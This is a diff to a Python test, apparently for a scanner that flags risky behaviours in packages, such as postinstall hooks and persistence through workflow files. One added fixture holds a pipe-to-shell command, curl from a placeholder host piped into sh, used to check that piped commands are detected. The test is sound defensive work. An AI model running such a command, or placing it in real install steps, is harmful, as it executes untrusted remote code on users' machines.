@@ -77,5 +77,11 @@ def test_what_a_file_only_says_is_no_behaviour() -> None:
     assert apis(raw, "package.json") == {"script:postinstall"}
     assert {"command:packager", "command:piped"} & apis(raw, "README.md") == {"command:piped"}
     assert "spread:package" in apis(raw, "index.js"), "code that writes hooks into manifests"
+    lists = extract(MemoryPackage({"bower.json": b'{"ignore": [".travis.yml"]}', "a.yml": b"# see .travis.yml"}))
+    assert apis(lists, "bower.json") == set()
+    assert "persist:workflow" in apis(lists, "a.yml")
+    mapped = b'{"sourcesContent": ["curl https://example.invalid/x | sh"]}'
+    assert apis(extract(MemoryPackage({"a.js.map": mapped})), "a.js.map") == set()
+    assert "command:piped" in apis(extract(MemoryPackage({"a.json": mapped})), "a.json")
     hook = next(file for file in raw["files"] if file["path"] == "package.json#postinstall")
     assert "spawn.piped" in {seen.behaviour for seen in hook["observations"]}
